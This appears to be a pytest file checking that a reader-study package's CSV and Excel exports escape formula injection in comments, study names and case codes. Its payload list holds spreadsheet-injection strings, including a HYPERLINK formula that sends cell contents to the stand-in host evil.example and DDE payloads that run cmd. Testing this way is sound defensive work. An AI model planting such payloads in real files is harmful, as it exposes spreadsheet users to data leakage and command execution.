"""OWASP CSV injection: reader comments and names reach every spreadsheet export as text, never as
formulas (SYNTHETIC reads, see analysis_study)."""

from __future__ import annotations

import copy
import csv
import io

import openpyxl
import pytest

from readerstudy.analysis.exports import (
    export_mrmc_long_csv,
    export_reads_csv,
    export_workbook_xlsx,
)
from tests.readerstudy.test_analysis_exports import _fast_passwords, frozen  # noqa: F401

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def injected(frozen):  # noqa: ANN001, ANN201, F811
    _, _, results, reads = frozen
    reads = reads.copy()
    reads["comment"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(reads))]
    results = copy.deepcopy(results)
    results["snapshot"]["study"]["name"] = "=1+1 study"
    return results, reads


def test_reads_csv_escapes_formula_cells(injected) -> None:  # noqa: ANN001
    results, reads = injected
    rows = list(csv.DictReader(io.StringIO(export_reads_csv(reads, sha256="x").decode())))
    comments = {row["comment"] for row in rows}
    assert comments == {"'" + p for p in PAYLOADS}
    # Numbers stay numbers: scores are not touched.
    assert {row["pirads"] for row in rows} <= {"1", "2", "3", "4", "5"}


def test_mrmc_long_csv_escapes_text_cells(injected) -> None:  # noqa: ANN001
    results, reads = injected
    reads = reads.copy()
    reads["case"] = "=" + reads["case"].astype(str)  # the case code column
    text = export_mrmc_long_csv(reads, results=results).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and all(row["case_code"].startswith("'=") for row in rows)


def test_workbook_holds_no_formula(injected) -> None:  # noqa: ANN001
    results, reads = injected
    book = openpyxl.load_workbook(io.BytesIO(export_workbook_xlsx(results, reads)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    # XML turns a CR into LF when the file is read back.
    assert {"'" + p.replace("\r", "\n") for p in PAYLOADS} <= texts and "'=1+1 study" in texts
    assert not any(t.startswith(("=", "+", "@", "\t", "\r")) for t in texts)
